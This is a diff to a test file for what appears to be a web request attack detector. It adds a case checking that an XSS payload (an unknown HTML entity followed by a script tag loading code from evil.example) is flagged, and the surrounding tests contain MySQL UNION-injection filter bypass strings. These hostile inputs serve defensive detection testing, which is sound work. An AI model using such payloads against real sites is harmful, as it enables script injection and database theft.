@@ -31,6 +31,14 @@ describe('evasions of the promised categories are still flagged', () => {
     ]);
   });
 
+  it('flags a script tag after an unknown reference the HTML decoder once read on through (entities 7.0.1 ate its <)', () => {
+    // A browser reads `&xiAdY` as text and runs the script; the decoder must leave it as written too.
+    expect(perQuery('/search', ['q=&xiAdY<script%20src=//evil.example/x.js>', 'q=%26xiAdY%3Cscript%20src=//evil.example/x.js%3E'])).toEqual([
+      ['q=&xiAdY<script%20src=//evil.example/x.js>', ['xss']],
+      ['q=%26xiAdY%3Cscript%20src=//evil.example/x.js%3E', ['xss']],
+    ]);
+  });
+
   it('flags UNION glued to the number before it (1e0union, 1.0union, \\Nunion: MySQL WAF bypasses)', () => {
     const queries = ['id=1e0union%20select%201,2', 'id=1.0union%20select%201,2', 'id=%5CNunion%20select%201,2'];
     expect(perQuery('/item.php', queries)).toEqual(queries.map((query) => [query, ['sqli']]));
